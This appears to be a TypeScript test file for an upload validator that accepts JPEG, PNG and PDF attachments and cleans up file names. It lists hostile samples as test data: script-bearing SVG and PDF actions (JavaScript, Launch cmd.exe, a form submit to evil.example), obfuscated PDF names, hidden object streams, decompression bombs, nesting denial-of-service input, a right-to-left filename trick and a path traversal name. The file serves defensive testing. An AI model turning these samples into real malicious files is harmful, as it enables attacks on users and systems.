import { deflateSync } from "node:zlib";
import { zipSync } from "fflate";
import { PDFDocument } from "pdf-lib";
import { beforeAll, expect, test } from "vitest";
import { drawnJpeg, drawnPng } from "../../tests/support/drawn-picture.ts";
import { attachmentName } from "./attachment.ts";
import { judgeAttachment } from "./judge-attachment.ts";

const every = ["jpg", "png", "pdf"] as const;
const kindOf = async (bytes: Uint8Array, accepts: readonly (typeof every)[number][] = every) => {
  const judged = await judgeAttachment(bytes, accepts);
  return judged.ok ? judged.value : judged.refusal.kind;
};
const bytesOf = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
const png = drawnPng(64, 48);
let jpeg: Uint8Array;
let paper: Uint8Array;
beforeAll(async () => {
  jpeg = await drawnJpeg(64, 48);
  const made = await PDFDocument.create();
  made.addPage();
  paper = await made.save();
});

/** A PDF around one object, with what else it is to hold. */
function pdfOf(object: string, trailer = ""): Uint8Array {
  return bytesOf(
    `%PDF-1.7\n1 0 obj\n${object}\nendobj\ntrailer\n<< /Root 1 0 R ${trailer} >>\nstartxref\n9\n%%EOF\n`,
  );
}

/** The same with a packed stream in it. */
function packed(dictionary: string, content: Uint8Array): Uint8Array {
  const zlib = deflateSync(content);
  return Buffer.concat([
    bytesOf(`%PDF-1.7\n1 0 obj\n<< ${dictionary} /Length ${zlib.length} >>\nstream\n`),
    zlib,
    bytesOf("\nendstream\nendobj\nstartxref\n9\n%%EOF\n"),
  ]);
}

test("a picture and a paper are told by their bytes, ours among them", async () => {
  expect([await kindOf(jpeg), await kindOf(png), await kindOf(paper)]).toEqual(["jpg", "png", "pdf"]);
  expect(await kindOf(paper, ["jpg"])).toBe("attachment_kind_here");
});

test("what is something else is refused, whatever it is called", async () => {
  const given: readonly (readonly [Uint8Array, string])[] = [
    [new Uint8Array(), "attachment_empty"],
    [new Uint8Array(10_000_001), "attachment_heavy"],
    [bytesOf("MZ\u0090\0 This program cannot be run in DOS mode"), "attachment_kind"],
    [bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), "attachment_kind"],
    [zipSync({ "a.txt": new Uint8Array(5_000_000) }), "attachment_kind"],
    [bytesOf("<html>%PDF-1.7"), "attachment_kind"],
    [jpeg.subarray(0, jpeg.length / 2), "attachment_broken"],
    [Buffer.concat([png, zipSync({ "a.js": bytesOf("alert(1)") })]), "attachment_broken"],
    [paper.subarray(0, paper.length / 2), "attachment_broken"],
  ];
  for (const [bytes, kind] of given) expect(await kindOf(bytes)).toBe(kind);
});

test("a picture that would unpack to a wall is refused before anything is unpacked", async () => {
  const huge = png.slice();
  new DataView(huge.buffer).setUint32(16, 50_000);
  new DataView(huge.buffer).setUint32(20, 50_000);
  expect(await kindOf(huge)).toBe("picture_huge");
});

test("a paper that runs, opens, sends or carries something is refused, however its names are written", async () => {
  const objects = [
    "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    "<< /S /J#61vaScript /JS (x) >>",
    "<< /S /Launch /F (cmd.exe) >>",
    "<< /Names << /EmbeddedFiles 3 0 R >> >>",
    "<< /Type /RichMedia >>",
    "<< /S /SubmitForm /F (http://evil.example) >>",
    "<< /AcroForm << /XFA 5 0 R >> >>",
  ];
  for (const object of objects) expect(await kindOf(pdfOf(object))).toBe("pdf_active");
  expect(
    await kindOf(packed("/Type /ObjStm /Filter /FlateDecode", bytesOf("1 0 << /S /JavaScript /JS (x) >>"))),
  ).toBe("pdf_active");
  expect(await kindOf(pdfOf("<< /Type /Catalog >>", "/Encrypt 4 0 R"))).toBe("pdf_locked");
});

test("a paper that unpacks to more than paper holds, or cannot be looked into, is refused", async () => {
  const bomb = packed("/Filter /FlateDecode", new Uint8Array(80 * 1024 * 1024));
  expect(bomb.length).toBeLessThan(200_000);
  expect(await kindOf(bomb)).toBe("pdf_packed");
  expect(await kindOf(packed("/Filter [/FlateDecode /FlateDecode]", bytesOf("x")))).toBe("pdf_packed");
  expect(await kindOf(packed("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", bytesOf("x")))).toBe(
    "pdf_packed",
  );
});

test("packed bytes that end as a line does are no odd ones", async () => {
  // The last byte of a zlib stream is the low one of a sum over its content: one of 256 last characters gives each.
  const every256 = Array.from({ length: 256 }, (_, last) => {
    return deflateSync(bytesOf(`1 0 << /Type /Pages /Kids [] >> %${String.fromCharCode(last)}`));
  });
  for (const last of [10, 13]) {
    const body = every256.find((zlib) => zlib.at(-1) === last);
    expect(body).toBeDefined();
    for (const end of ["\n", "\r\n"]) {
      const pdf = Buffer.concat([
        bytesOf("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"),
        body as Uint8Array,
        bytesOf(`${end}endstream\nendobj\nstartxref\n9\n%%EOF\n`),
      ]);
      expect([last, end, await kindOf(pdf)]).toEqual([last, end, "pdf"]);
    }
  }
});

test("objects that are packed out of sight are refused, however their dictionary is written", async () => {
  const hidden = bytesOf("1 0 << /S /JavaScript /JS (x) >>");
  const [zlib, plain] = [deflateSync(hidden), deflateSync("1 0 << /Type /Pages /Kids [] >>")];
  const hex = Buffer.from(`${Buffer.from(hidden).toString("hex")}>`, "latin1");
  const named = "/Type /ObjStm /N 1 /First 4";
  const stream = (dictionary: string, body: Uint8Array, word = "stream\n") =>
    Buffer.concat([
      bytesOf(`%PDF-1.7\n1 0 obj\n<< ${dictionary} >>\n${word}`),
      body,
      bytesOf("\nendstream\nendobj\nstartxref\n9\n%%EOF\n"),
    ]);
  const odd = [
    stream(`${named} /Filter /ASCIIHexDecode /X ( obj)`, hex),
    stream(`${named} /Filter /ASCIIHexDecode ${" ".repeat(3_000)}`, hex),
    stream(`${named} /Filter /ASCIIHexDecode`, hex, "stream\r"),
    stream("/N 1 /First 4 /Filter /AHx", hex),
    stream(`${named} /Filter 9 0 R`, hex),
    stream(`${named} /Fi#6cter /ASCIIHexDecode`, hex),
    stream(`${named} /X (stream\nendstream) /Filter [ %]\n /AHx ]`, hex),
    stream(`${named} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`, plain),
    stream(`${named} /Filter /FlateDecode`, plain.subarray(0, plain.length - 6)),
    stream(`${named} /F (elsewhere) /Filter /FlateDecode`, plain),
  ];
  for (const bytes of odd) expect(await kindOf(bytes)).toBe("pdf_packed");
  expect(await kindOf(stream(`${named} /Filter [/FlateDecode]`, zlib, "stream\r"))).toBe("pdf_active");
});

test("a file full of dictionaries within each other is given up, not read for ever", async () => {
  expect(await kindOf(pdfOf("9 0 obj << ( ".repeat(20_000)))).toBe("pdf_packed");
});

test("a file full of streams without an end, or with one for all, is given up before it keeps us busy", async () => {
  const many = "stream\n\x78\x9c".repeat(4_000);
  for (const end of ["", "\nendstream"])
    expect(await kindOf(pdfOf(`<< >> ${many}${"x".repeat(1_000_000)}${end}`))).toBe("pdf_packed");
});

test("a paper of our own, with pictures and packed text in it, is taken", async () => {
  const made = await PDFDocument.create();
  const page = made.addPage();
  page.drawImage(await made.embedPng(drawnPng()), { x: 0, y: 0, width: 300, height: 200 });
  page.drawText("Launch at noon, in Java script class");
  expect(await kindOf(await made.save())).toBe("pdf");
});

test("a name is shown without what leads astray, ended by what the file is", () => {
  expect(attachmentName("C:\\fakepath\\ทะเบียนบ้าน.PDF", "pdf")).toBe("ทะเบียนบ้าน.pdf");
  expect(attachmentName("invoice\u202Efdp.exe", "jpg")).toBe("invoicefdp.jpg");
  expect(attachmentName("../../etc/passwd", "png")).toBe("passwd.png");
  expect(attachmentName("", "png")).toBe("file.png");
});
